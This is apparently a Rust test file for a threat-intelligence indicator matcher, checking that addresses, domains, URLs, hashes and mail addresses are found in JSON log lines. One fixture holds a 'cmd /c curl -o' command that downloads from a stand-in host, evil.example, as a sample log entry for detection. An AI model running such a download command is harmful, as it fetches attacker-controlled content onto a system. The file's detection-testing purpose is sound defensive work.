//! What lines hold, and which indicators they speak of.

mod observed;
mod properties;

use super::*;
use crate::finding::{Entity, Fact, Level};

fn compiled(list: &[(Kind, &str)]) -> Indicators {
    let list = list
        .iter()
        .map(|(kind, value)| Indicator::new(*kind, value));
    let (indicators, unusable) = Indicators::new(list.collect());
    assert_eq!(unusable, []);
    indicators
}

/// The indicators that a line speaks of, with their fields.
#[track_caller]
fn expect(list: &[(Kind, &str)], line: &str, wanted: &[(&str, &str)]) {
    let indicators = compiled(list);
    let mut observer = Observer::default();
    let matches = indicators.matches(&mut observer, line.as_bytes()).unwrap();
    let found: Vec<_> = matches
        .matched
        .iter()
        .map(|one| (one.indicator.value.as_str(), one.field.as_str()))
        .collect();
    assert_eq!(found, wanted, "{line}");
    let is_met = indicators.is_met(&mut observer, line.as_bytes()).unwrap();
    assert_eq!(is_met, !wanted.is_empty(), "{line}");
}

#[test]
fn addresses_and_networks() {
    let list = [
        (Kind::Address, "198.51.100.7"),
        (Kind::Address, "2001:db8::7"),
        (Kind::Network, "198.51.100.0/24"),
        (Kind::Network, "198.51.0.0/16"),
        (Kind::Network, "2001:db8::/32"),
    ];
    let zeek = r#"{"id.orig_h":"10.0.0.1","id.resp_h":"198.51.100.7"}"#;
    let field = "id.resp_h";
    expect(
        &list,
        zeek,
        &[
            ("198.51.100.7", field),
            ("198.51.100.0/24", field),
            ("198.51.0.0/16", field),
        ],
    );
    expect(
        &list,
        r#"{"a":{"b":["x","198.51.7.7"]}}"#,
        &[("198.51.0.0/16", "a.b")],
    );
    expect(
        &list,
        r#"{"a":"::ffff:198.51.7.7"}"#,
        &[("198.51.0.0/16", "a")],
    );
    expect(
        &list,
        r#"{"a":"2001:DB8:0::7"}"#,
        &[("2001:db8::7", "a"), ("2001:db8::/32", "a")],
    );
    expect(&list, r#"{"a":"198.52.100.7","b":"198.51.100.256"}"#, &[]);
}

#[test]
fn domains_with_what_is_below() {
    let list = [
        (Kind::Domain, "Evil.example."),
        (Kind::Domain, "a.b.other.example"),
    ];
    for (line, is_met) in [
        (r#"{"query":"evil.example"}"#, true),
        (r#"{"query":"www.EVIL.example."}"#, true),
        (r#"{"query":"notevil.example"}"#, false),
        (r#"{"query":"example"}"#, false),
        (r#"{"url":"https://a.b.evil.example:8443/x"}"#, true),
        (r#"{"mail":"Mallory <m@mail.evil.example>"}"#, true),
        (r#"{"query":"b.other.example"}"#, false),
    ] {
        let field = if line.contains("\"url\"") {
            "url"
        } else if line.contains("mail\"") {
            "mail"
        } else {
            "query"
        };
        let wanted = [("Evil.example.", field)];
        expect(&list, line, if is_met { &wanted } else { &[] });
    }
}

#[test]
fn urls_whatever_the_log_splits() {
    let list = [(Kind::Url, "http://Evil.example/a?b=1")];
    let wanted = |field| [("http://Evil.example/a?b=1", field)];
    expect(
        &list,
        r#"{"u":"https://evil.example:443/a?b=1#top"}"#,
        &wanted("u"),
    );
    expect(&list, r#"{"u":"evil.example/a?b=1"}"#, &wanted("u"));
    expect(&list, r#"{"u":"evil.example\/a?b=1"}"#, &wanted("u"));
    expect(
        &list,
        r#"{"host":"evil.example","uri":"/a?b=1"}"#,
        &wanted("uri"),
    );
    expect(
        &list,
        r#"{"http":{"url":"/a?b=1","hostname":"evil.example"}}"#,
        &wanted("http.url"),
    );
    expect(
        &list,
        r#"{"CommandLine":"cmd /c curl -o x \"http://evil.example/a?b=1\", then"}"#,
        &wanted("CommandLine"),
    );
    expect(
        &list,
        r#"{"r":"https://safe.example/?to=http://evil.example/a?b=1"}"#,
        &wanted("r"),
    );
    expect(&list, r#"{"u":"http://evil.example/A?b=1"}"#, &[]);
    expect(&list, r#"{"u":"ftp://evil.example/a?b=1"}"#, &[]);
}

#[test]
fn hashes_and_mail_addresses() {
    let (md5, sha) = ("a".repeat(32), "b".repeat(64));
    let list = [
        (Kind::Hash, md5.as_str()),
        (Kind::Hash, sha.as_str()),
        (Kind::Mail, "M.Allory@evil.example"),
    ];
    let (big, sysmon) = (
        "A".repeat(32),
        format!(r#"{{"Hashes":"SHA256={sha},MD5={}"}}"#, md5.to_uppercase()),
    );
    expect(&list, &sysmon, &[(&md5, "Hashes"), (&sha, "Hashes")]);
    expect(&list, &format!(r#"{{"md5":"{big}"}}"#), &[(&md5, "md5")]);
    expect(&list, &format!(r#"{{"md5":"{big}a"}}"#), &[]);
    expect(
        &list,
        r#"{"from":["\"M\" <m.allory@EVIL.example>"]}"#,
        &[("M.Allory@evil.example", "from")],
    );
}

#[test]
fn findings_say_what_and_about_whom() {
    let list = vec![Indicator {
        id: "indicator--1".to_owned(),
        name: "Beacon".to_owned(),
        source: "cert".to_owned(),
        ..Indicator::new(Kind::Network, "198.51.100.0/24")
    }];
    let (indicators, _) = Indicators::new(list);
    let line = br#"{"id.orig_h":"10.0.0.1","id.resp_h":"198.51.100.7"}"#;
    let mut observer = Observer::default();
    let matches = indicators.matches(&mut observer, line).unwrap();
    let at = Where {
        position: 7,
        at_us: 9,
        host: Some("sensor"),
    };
    let findings: Vec<_> = matches.findings(at).collect();
    let [finding] = findings.as_slice() else {
        panic!("{findings:?}");
    };
    assert_eq!(
        (finding.id.as_str(), finding.level),
        ("indicator:indicator--1", Level::High)
    );
    assert_eq!(
        finding.entities,
        [
            Entity::device("10.0.0.1"),
            Entity::destination("198.51.100.7")
        ]
    );
    assert_eq!(
        (finding.positions.as_slice(), finding.at_us),
        ([7].as_slice(), 9)
    );
    let fact = |name| finding.facts.get(name).cloned();
    for (name, text) in [
        ("field", "id.resp_h"),
        ("value", "198.51.100.7"),
        ("kind", "network"),
        ("indicator", "198.51.100.0/24"),
        ("name", "Beacon"),
        ("source", "cert"),
    ] {
        assert_eq!(fact(name), Some(Fact::Text(text.to_owned())), "{name}");
    }
    let line = br#"{"id.orig_h":"198.51.100.7"}"#;
    let matches = indicators.matches(&mut observer, line).unwrap();
    assert_eq!(
        matches.findings(at).next().unwrap().entities,
        [Entity::destination("198.51.100.7")]
    );
    let line = br#"{"msg":"from 198.51.100.7"}"#;
    let matches = indicators.matches(&mut observer, line).unwrap();
    assert_eq!(
        matches.findings(at).next().unwrap().entities[0],
        Entity::device("sensor")
    );
}

#[test]
fn what_is_not_of_its_kind_is_told() {
    for (kind, value) in [
        (Kind::Address, "evil.example"),
        (Kind::Network, "198.51.100.7"),
        (Kind::Network, "198.51.100.0/33"),
        (Kind::Domain, "evil"),
        (Kind::Hash, "abc"),
        (Kind::Mail, "evil.example"),
        (Kind::Url, "evil.example"),
    ] {
        let (indicators, unusable) = Indicators::new(vec![Indicator::new(kind, value)]);
        assert!(indicators.is_empty(), "{value}");
        assert_eq!(unusable.len(), 1);
    }
}

#[test]
fn more_indicators_than_are_named_are_counted() {
    let list = (0..100).map(|number| Indicator {
        id: format!("i-{number}"),
        ..Indicator::new(Kind::Domain, "evil.example")
    });
    let (indicators, _) = Indicators::new(list.collect());
    let matches = indicators
        .matches(&mut Observer::default(), br#"{"q":"evil.example"}"#)
        .unwrap();
    assert_eq!((matches.matched.len(), matches.total), (64, 100));
}

#[test]
fn lines_that_are_none_are_refused() {
    let indicators = compiled(&[(Kind::Domain, "evil.example")]);
    for line in ["", "evil.example", "{", "[\"evil.example\"]"] {
        assert!(
            indicators
                .matches(&mut Observer::default(), line.as_bytes())
                .is_err(),
            "{line}"
        );
    }
}
